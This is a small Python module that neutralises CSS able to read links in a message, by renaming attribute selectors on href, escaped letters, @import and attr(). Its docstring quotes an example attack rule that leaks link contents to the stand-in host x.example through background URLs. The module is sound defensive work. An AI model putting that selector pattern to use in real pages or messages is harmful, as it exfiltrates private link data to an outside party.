"""Style sheets that cannot read a link.

`a[href*="Ab"] { background: url(https://x.example/Ab) }`, written for all pairs of letters, would tell x.example what a
link consists of. So would a sheet that is loaded when the message is read. Selectors of other attributes, fonts and
media queries stay.
"""

from __future__ import annotations

import re

# Escaped letters: `\68ref` and `\href` are ways to write `href`. Escaped punctuation stays, as in `.sm\:w-full`.
_ESCAPED_LETTER = re.compile(r"\\(?=0{0,4}(?:4[1-9a-f]|5[0-9a]|6[1-9a-f]|7[0-9a])|[g-z])", re.IGNORECASE)
_IMPORT = re.compile(r"@(?=import)", re.IGNORECASE)
# attr() shows the value of an attribute as text.
_ATTR = re.compile(r"(?<![\w-])attr(?=\()", re.IGNORECASE)
# An attribute selector, unless it is plainly one of another attribute.
_SELECTOR = re.compile(r"\[(?!\s*(?!href\b)[a-z][a-z0-9_-]*\s*(?:[~|^$*]?=|\]))", re.IGNORECASE)


def harmless(css: str) -> str:
    """The style sheet, with what could read a link renamed so that it does nothing."""
    css = _ESCAPED_LETTER.sub("x-", css)
    css = _IMPORT.sub("@x-", css)
    css = _ATTR.sub("x-attr", css)
    return _SELECTOR.sub("[x-", css)
